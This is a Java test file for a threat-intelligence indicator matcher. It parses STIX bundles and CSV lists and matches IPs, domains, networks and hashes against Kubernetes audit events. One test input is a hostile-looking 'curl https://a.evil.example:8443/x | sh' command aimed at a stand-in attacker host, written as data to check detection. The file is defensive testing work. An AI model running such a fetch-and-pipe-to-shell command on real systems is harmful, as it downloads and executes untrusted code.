package io.vedette.detect.behavior.intel;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.vedette.model.AuditEvent;
import io.vedette.model.Finding;
import io.vedette.model.Severity;
import java.util.List;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.constraints.IntRange;
import org.junit.jupiter.api.Test;

class IndicatorTest {
  private static final String SHA =
      "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";

  private static final String STIX =
      """
      {"type":"bundle","id":"bundle--1","objects":[
       {"type":"indicator","spec_version":"2.1","id":"indicator--1","name":"C2 of Example",
        "pattern_type":"stix","confidence":90,"valid_from":"2026-01-01T00:00:00Z",
        "valid_until":"2026-02-01T00:00:00Z",
        "pattern":"[ipv4-addr:value = '198.51.100.7'] OR [domain-name:value = 'evil.example']"},
       {"type":"indicator","id":"indicator--2","pattern_type":"stix","valid_from":"2026-01-01T00:00:00Z",
        "pattern":"[file:hashes.'SHA-256' = '%s']"},
       {"type":"indicator","id":"indicator--3","pattern_type":"stix","valid_from":"2026-01-01T00:00:00Z",
        "pattern":"[ipv4-addr:value = '192.0.2.1' AND network-traffic:dst_port = 80]"},
       {"type":"indicator","id":"indicator--4","revoked":true,"pattern_type":"stix",
        "valid_from":"2026-01-01T00:00:00Z","pattern":"[ipv4-addr:value = '192.0.2.2']"},
       {"type":"malware","id":"malware--1","name":"x"}]}
      """
          .formatted(SHA);

  private static final long JANUARY = 1_768_000_000_000L;
  private static final long MARCH = 1_773_000_000_000L;

  private static IndicatorSet set(String text) throws IndicatorException {
    return new IndicatorSet(IndicatorParser.parse("list", text));
  }

  private static List<IndicatorSet.Match> match(IndicatorSet set, String document, long time) {
    return set.match(new AuditEvent("k8s_audit", "", "e", time, time, document));
  }

  @Test
  void readsStixAndKeepsItsTimesOfValidity() throws Exception {
    IndicatorSet set = set(STIX);

    assertThat(set.size()).isEqualTo(3);
    assertThat(match(set, "{\"ip\":\"198.51.100.7\"}", JANUARY)).hasSize(1);
    assertThat(match(set, "{\"ip\":\"198.51.100.7\"}", MARCH)).isEmpty();
    assertThat(match(set, "{\"image\":\"shop@sha256:" + SHA.toUpperCase() + "\"}", MARCH))
        .hasSize(1);
    assertThat(match(set, "{\"ip\":\"192.0.2.1\",\"b\":\"192.0.2.2\"}", JANUARY)).isEmpty();
  }

  @Test
  void matchesWordsWithinTextsSubdomainsPortsAndNetworks() throws Exception {
    IndicatorSet set =
        set(
            "value,confidence,description\nevil.example,80,\"C2, old\"\n10.9.0.0/16,40\n2001:db8::/32,60\n");

    assertThat(match(set, "{\"cmd\":\"curl https://a.evil.example:8443/x | sh\"}", 0)).hasSize(1);
    assertThat(match(set, "{\"cmd\":\"curl https://notevil.example/x\"}", 0)).isEmpty();
    assertThat(match(set, "{\"cmd\":\"curl https://evil.example.org/x\"}", 0)).isEmpty();
    assertThat(match(set, "{\"a\":[{\"b\":\"10.9.200.3:443\"}]}", 0)).hasSize(1);
    assertThat(match(set, "{\"a\":\"10.10.0.1\"}", 0)).isEmpty();
    assertThat(match(set, "{\"a\":\"2001:db8:7::1\"}", 0)).hasSize(1);
    assertThat(match(set, "{\"a\":\"EVIL.example.\"}", 0))
        .extracting(m -> m.indicator().description())
        .containsExactly("C2, old");
  }

  @Test
  void aFindingNamesActorIndicatorListAndField() throws Exception {
    String document =
        "{\"verb\":\"get\",\"user\":{\"username\":\"bob\"},\"sourceIPs\":[\"198.51.100.7\"]}";

    Finding finding =
        new IndicatorFindings()
            .of(new AuditEvent("k8s_audit", "", "e", JANUARY, 0, document), set(STIX))
            .get(0);

    assertThat(finding.severity()).isEqualTo(Severity.HIGH);
    assertThat(finding.entity().name()).isEqualTo("bob");
    assertThat(finding.reason()).contains("198.51.100.7", "C2 of Example", "/sourceIPs/0", "list");
  }

  @Test
  void namesTheLineAndTheValueThatIsWrong() {
    assertThatThrownBy(() -> set("# mine\n198.51.100.7\nnot a thing\n"))
        .hasMessageContaining("list:3")
        .hasMessageContaining("not a thing");
    assertThatThrownBy(() -> set("value,confidence\n198.51.100.7,high"))
        .hasMessageContaining("'high'");
    assertThatThrownBy(() -> set("{\"type\":\"bundle\","))
        .hasMessageContaining("list")
        .hasMessageContaining("not JSON");
  }

  @Property(tries = 300)
  void neverThrowsOnAnyDocumentOrText(@ForAll String text) throws Exception {
    IndicatorSet set = set(STIX);

    assertThat(match(set, "{\"a\":" + text, JANUARY)).isEmpty();
    assertThat(Values.type(Values.canonical(text))).isNotNull();
  }

  @Property(tries = 300)
  void anAddressIsInExactlyTheNetworksThatHoldIt(
      @ForAll int address, @ForAll @IntRange(max = 32) int bits) {
    byte[] bytes = {
      (byte) (address >> 24), (byte) (address >> 16), (byte) (address >> 8), (byte) address
    };
    String text =
        (bytes[0] & 255) + "." + (bytes[1] & 255) + "." + (bytes[2] & 255) + "." + (bytes[3] & 255);
    IndicatorSet set =
        new IndicatorSet(
            List.of(
                new Indicator(
                    Indicator.Type.NETWORK, text + "/" + bits, 1, 0, Long.MAX_VALUE, "", "l")));

    assertThat(set.find(text, 5)).isNotNull();
    if (bits > 0) {
      int outside = address ^ (1 << (32 - bits));
      String other =
          (outside >>> 24)
              + "."
              + (outside >>> 16 & 255)
              + "."
              + (outside >>> 8 & 255)
              + "."
              + (outside & 255);
      assertThat(set.find(other, 5)).isNull();
    }
  }
}
